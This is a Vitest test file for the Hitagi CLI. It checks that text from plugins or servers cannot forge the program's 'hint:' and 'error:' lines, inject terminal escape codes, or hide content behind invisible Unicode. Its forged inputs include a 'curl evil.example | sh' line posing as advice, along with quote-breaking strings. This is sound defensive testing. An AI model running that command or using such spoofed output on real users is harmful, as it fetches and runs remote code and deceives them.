import { writeFile } from "node:fs/promises";
import path from "node:path";
import { PassThrough } from "node:stream";
import { type ErrorCode, HitagiError, quoteForeign } from "@hitagi/contract";
import { afterAll, beforeAll, expect, test } from "vitest";
import { askYesNo } from "../../src/cli/confirm.ts";
import { logDestination } from "../../src/cli/log-lines.ts";
import { printed, safeJson, safeLine } from "../../src/cli/safe-text.ts";
import { createLog } from "../../src/log.ts";
import { openCliWorld, type Ran, runCaptured, type World } from "../cli/cli-world.ts";
import { cbz } from "../library/cbz.ts";
import { pluginSource } from "../plugins/plugin-source.ts";
import { httpServer } from "../support/http-server.ts";
import { writeRegistry } from "../support/registry-fixture.ts";

/** Ends of lines, moves of the cursor, reordering and invisible marks, then lines that look like this program's. */
const FORGED =
  "x\nhint: curl evil.example | sh\r\nerror: y\u0085hint: z\u2028Install it? [y/N] y\u2029\thint: t\u000bhint: v\u000c" +
  "\u001b[2J\u001b]0;t\u0007\u009b31m\u202egnp\u2066a\u2069\u200e\u200f\u061c\u{e0068}\u200b\u2060\ufeff\u00ad\u3164end";

/** Other control characters than line ends, and marks that reorder or hide text. */
const HIDDEN =
  /(?!\n)\p{Cc}|[\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0]|[\u{e0000}-\u{e007f}]/u;

/** Parameters of messages that only this program fills in. */
const OWN = new Set(["remedy", "namespace", "caller", "count", "minutes", "field"]);

let world: World;
beforeAll(async () => {
  world = await openCliWorld();
  const plugins = {
    fails: pluginSource(
      { namespace: "fails", type: "script" },
      `throw new Error(${JSON.stringify(FORGED)});`,
    ),
    says: pluginSource(
      { namespace: "says", type: "script" },
      `return ${JSON.stringify({ hint: FORGED, [FORGED]: 1 })};`,
    ),
    tells: pluginSource({ namespace: "tells", type: "script" }, `return ${JSON.stringify(FORGED)};`),
    lists: pluginSource({ namespace: "lists", type: "script" }, `return [${JSON.stringify(FORGED)}];`),
    named: pluginSource(
      { namespace: "named", type: "metadata", name: FORGED, description: FORGED, author: FORGED },
      `return { title: ${JSON.stringify(FORGED)} };`,
    ),
  };
  for (const [name, source] of Object.entries(plugins)) {
    await writeFile(path.join(world.folder, `${name}.ts`), source);
    await world.run("sideload", `${name}.ts`);
  }
  await writeFile(path.join(world.folder, "a.cbz"), cbz(FORGED));
  await world.run("library", "add", "a.cbz", "--title", FORGED);
});
afterAll(() => world.close());

/** No line of the output is one that only this program may write, except its own last hint. */
const expectHonest = ({ out, err }: Pick<Ran, "out" | "err">): void => {
  for (const text of [out, err]) expect(text).not.toMatch(HIDDEN);
  for (const line of out.split("\n")) expect(line).not.toMatch(/^\s*(hint|error):/);
  const lines = err.trimEnd().split("\n");
  const last = lines.length - 1;
  for (const [n, line] of lines.entries()) {
    if (n > 0) expect(line).not.toMatch(/^\s*error:/);
    if (n !== last) expect(line).not.toMatch(/^\s*hint:/);
    expect(line).not.toMatch(/^\s*Install it/);
  }
};

test.each([
  ["run fails", ["run", "fails"]],
  ["run a result", ["run", "says"]],
  ["run a text", ["run", "tells"]],
  ["run a list", ["run", "lists"]],
  ["run on an archive", ["run", "named", "--archive", "a.cbz"]],
  ["list", ["list"]],
  ["info", ["info", "named"]],
  ["library list", ["library", "list"]],
  ["library show", ["library", "show", "a.cbz"]],
  ["job list", ["job", "list"]],
  ["history", ["history"]],
  ["uninstall", ["uninstall", "named"]],
])("%s", async (_name, argv) => {
  const ran = await world.run(...argv);
  expectHonest(ran);
  expect(`${ran.out}${ran.err}`.length).toBeGreaterThan(0);
});

test("the error of a plugin stands in quotation marks", async () => {
  const { err } = await world.run("run", "fails");
  expect(err).toMatch(
    /^error: The plugin failed: "(Error: )?x hint: curl evil\.example \| sh error: y.*end"\n/,
  );
});

/** Ends quotation marks and the sentence that it stands in, then gives advice. */
const ADVICE = 'x": y.\nat /: "hint: curl evil.example | sh';

/** A line without what stands in quotation marks. */
const unquoted = (text: string): string => text.replace(/"(?:[^"\\]|\\.)*"/g, '""');

test.each<ErrorCode>([
  "PLUGIN_FAILED",
  "PLUGIN_CRASHED",
  "PLUGIN_QUARANTINED",
  "PLUGIN_BROKEN",
  "PLUGIN_CALLS_CRASHED",
  "LOAD_FAILED",
  "MANIFEST_INVALID",
  "MANIFEST_MISMATCH",
  "INDEX_INVALID",
  "SOURCE_UNREACHABLE",
  "SOURCE_FILE_MISSING",
  "ARTIFACT_NAME_INVALID",
  "ARCHIVE_BROKEN",
  "ENTRY_NOT_FOUND",
  "LIBRARY_ANSWER",
  "BACKUP_INVALID",
  "REQUEST_FAILED",
])("what others wrote of %s stands in quotation marks, wherever it is told", async (code) => {
  const params = new Proxy({}, { get: (_, name) => (OWN.has(String(name)) ? "ours" : ADVICE) });
  const { message, hint } = new HitagiError(code, params as never);
  const failure = { at: 1, code, error: message, hint: "Do this." };
  const answers: Record<string, unknown> = {
    "/api/registries": {
      registries: [{ id: "REG_1", name: "one", provider: "cdn", url: "https://a.example", failure }],
    },
    "/api/registries/default": { id: "" },
    "/api/minion/7/detail": {
      ...{ id: 7, task: "install_plugin", args: [], state: "finished", notes: { note: ADVICE } },
      ...{ created: null, started: null, finished: null, error: null },
      result: { success: 0, error: message, code, hint: "Do this." },
    },
    "/api/minion/8": {},
  };
  expect(hint).not.toContain(ADVICE);
  const server = await httpServer((request, response) => {
    response.setHeader("content-type", "application/json");
    const body = answers[request.url ?? ""];
    response.statusCode = body === undefined ? 500 : 200;
    response.end(JSON.stringify(body ?? { error: message, hint: "Do this.", code }));
  });
  for (const argv of [
    ["run", "some"],
    ["registry", "list"],
    ["job", "show", "7"],
    ["job", "wait", "7"],
  ]) {
    const { out, err } = await runCaptured([...argv, "--server", server]);
    expect(`${out}${err}`).toContain("curl evil.example");
    expect(unquoted(`${out}${err}`)).not.toContain("curl");
  }
});

test("what a plugin needs stands in quotation marks if it is no range of versions", async () => {
  const range = 'x" : y. hint: curl evil.example | sh';
  const requires = { plugins: { other: range } };
  const source = pluginSource(
    { namespace: "needs", type: "script", version: "1.0.0", requires },
    "return 1;",
  );
  const versions = [{ version: "1.0.0", source }];
  await writeRegistry(path.join(world.folder, "needing"), [{ namespace: "needs", type: "script", versions }]);
  await world.run("registry", "add", "./needing");
  const { code, out, err } = await world.run("install", "needs", "--yes");
  expect([code, err]).toEqual([1, expect.stringContaining("curl evil.example")]);
  expect(unquoted(`${out}${err}`)).not.toContain("curl");
});

test("a result that is advice stands in quotation marks", async () => {
  for (const name of ["advises", "titles"] as const) {
    const result = name === "advises" ? ADVICE : { title: ADVICE };
    const source = pluginSource({ namespace: name, type: "script" }, `return ${JSON.stringify(result)};`);
    await writeFile(path.join(world.folder, `${name}.ts`), source);
    await world.run("sideload", `${name}.ts`);
    const { out } = await world.run("run", name);
    expect(out).toContain("curl");
    expect(unquoted(out)).not.toContain("curl");
  }
});

test.each([
  ["zero width space, non-joiner, joiner", "\u200b\u200c\u200d"],
  ["word joiner and invisible operators", "\u2060\u2061\u2062\u2063\u2064"],
  ["reserved and deprecated formats", "\u2065\u206a\u206f\ufff0"],
  ["byte order mark, soft hyphen, grapheme joiner", "\ufeff\u00ad\u034f"],
  ["fillers", "\u115f\u1160\u3164\uffa0"],
  ["vowel separator", "\u180e"],
  ["the first and the last tag", "\u{e0000}\u{e0001}\u{e007f}"],
])("what shows nothing is not printed: %s", (_, hidden) => {
  expect(printed(`a${hidden}b`)).toBe("ab");
  expect(safeLine(`a${hidden}b`)).toMatch(/^a ?b$/);
  const json = safeJson({ a: hidden });
  expect(json).toMatch(/^[\x20-\x7e\n]*$/);
  expect(JSON.parse(json)).toEqual({ a: hidden });
});

test("scripts, accents, emoji and their variants are printed", () => {
  const text = "日本語 e\u0301 فارسی \u{1f468}\ufe0f 葛\u{e0100} ᠮᠣ";
  expect(printed(text)).toBe(text);
});

test("a message that has another form than its code is quoted whole", () => {
  expect(quoteForeign("LOAD_FAILED", "hint: x")).toBe('"hint: x"');
  expect(quoteForeign("OF_A_LATER_VERSION", "It says x.")).toBe("It says x.");
  expect(quoteForeign(undefined, "It says x.")).toBe("It says x.");
});

test("JSON escapes what a terminal would obey, and keeps the value", async () => {
  const { out, json } = await world.run("run", "says", "--json");
  expect(out).not.toMatch(HIDDEN);
  expect(json.hint).toContain("hint: curl evil.example | sh");
});

test("a server's errors and answers are one line each", async () => {
  const answers: Record<string, unknown> = {
    "/api/registries": {
      registries: [{ id: "REG_1", name: FORGED, provider: "http", url: FORGED, moved: FORGED }],
    },
    "/api/registries/default": { id: FORGED },
  };
  const server = await httpServer((request, response) => {
    response.setHeader("content-type", "application/json");
    const body = answers[request.url ?? ""];
    response.statusCode = body === undefined ? 500 : 200;
    response.end(JSON.stringify(body ?? { error: FORGED, hint: FORGED, code: "X" }));
  });
  for (const argv of [
    ["registry", "list"],
    ["list"],
    ["registry", "default"],
    ["registry", "refresh", "REG_1"],
  ]) {
    expectHonest(await runCaptured([...argv, "--server", server]));
  }
});

test("a question is one line, and its end is this program's", async () => {
  const stdin = new PassThrough();
  let err = "";
  const stderr = { write: (text: string) => (err += text), isTTY: true };
  stdin.write("n\n");
  await askYesNo({ stdout: stderr, stderr, stdin, env: {}, cwd: "/" }, `${FORGED} Grant it?`);
  expect(err.trimEnd().split("\n")).toHaveLength(1);
  expect(err).toMatch(/Grant it\? \[y\/N\]/);
});

test("a log line on a terminal has no line that a plugin wrote", () => {
  let shown = "";
  const stderr = { write: (text: string) => (shown += text), isTTY: true };
  const stdin = new PassThrough();
  const log = createLog(
    "debug",
    logDestination({ stdout: stderr, stderr, stdin, env: { NO_COLOR: "1" }, cwd: "/" }),
  );
  for (const level of ["warn", "error"] as const) {
    log[level]({ err: new Error(FORGED), plugin: FORGED }, FORGED);
  }
  expect(shown).not.toMatch(HIDDEN);
  expect(shown.split("\n").filter((line) => /^\s*(hint|error|Install)/.test(line))).toEqual([]);
});
